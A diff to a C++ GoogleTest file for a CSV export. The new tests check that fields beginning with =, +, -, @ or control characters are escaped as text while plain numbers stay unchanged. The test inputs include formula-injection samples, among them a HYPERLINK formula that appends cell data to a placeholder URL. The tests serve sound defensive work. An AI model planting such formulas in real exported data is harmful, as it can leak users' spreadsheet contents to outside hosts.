@@ -3,6 +3,8 @@
 #include <gtest/gtest.h>
 
 #include <climits>
+#include <utility>
+#include <vector>
 
 #include "CCore.h"
 #include "PropertyList.h"
@@ -77,6 +79,31 @@ TEST(CsvField, quotesCommaQuoteCrAndLfAndDoublesInnerQuotes) {
     EXPECT_EQ(field("\""), "\"\"\"\"");
 }
 
+TEST(CsvField, marksFormulaStartsAsTextButKeepsPlainNumbers) {
+    const std::vector<std::pair<std::string, std::string>> fields{
+        {"=1+2", "'=1+2"},
+        {"+x", "'+x"},
+        {"-x", "'-x"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tcmd", "'\tcmd"},
+        {"-", "'-"},
+        {"-1.2.3", "'-1.2.3"},
+        {"-1e5", "'-1e5"},
+        {"\r=x", "\"'\r=x\""},
+        {"=HYPERLINK(\"http://e/?\"&A2,\"open\")",
+         "\"'=HYPERLINK(\"\"http://e/?\"\"&A2,\"\"open\"\")\""},
+        {"-5,6", "\"'-5,6\""},
+        {"-5", "-5"},
+        {"+86 10 1234 5678", "+86 10 1234 5678"},
+        {"-0.5", "-0.5"},
+        {"+.5 ", "+.5 "},
+        {"a=b", "a=b"},
+        {"'=x", "'=x"},
+    };
+    for (const auto& [text, written] : fields)
+        EXPECT_EQ(field(text), written) << text;
+}
+
 // One document of a folder, opened through the test shell.
 class CsvLines : public ::testing::Test {
   protected:
@@ -124,6 +151,14 @@ TEST_F(CsvLines, quoteDetailsHeadingsAndPathsThatWouldSplitALine) {
     odd += kPathSeparator;
     EXPECT_EQ(dataLine({0}, true, odd, "a.doc", layer),
               "\"x,\"\"y\"\"" + std::string(1, kPathSeparator) + "a.doc\",a.doc");
+}
+
+TEST_F(CsvLines, markFormulaStartsInDetailsAndPaths) {
+    shell.setDetail("a.doc", 2, "=1+2");
+    shell.setDetail("a.doc", 3, "-5");
+    EXPECT_EQ(data("2,3", false), "'=1+2,-5");
+    EXPECT_EQ(dataLine({}, true, "=x" + std::string(1, kPathSeparator), "a.doc", layer),
+              "'=x" + std::string(1, kPathSeparator) + "a.doc");
 }
 
 TEST_F(CsvLines, raiseTheShellErrorOfADetail) {
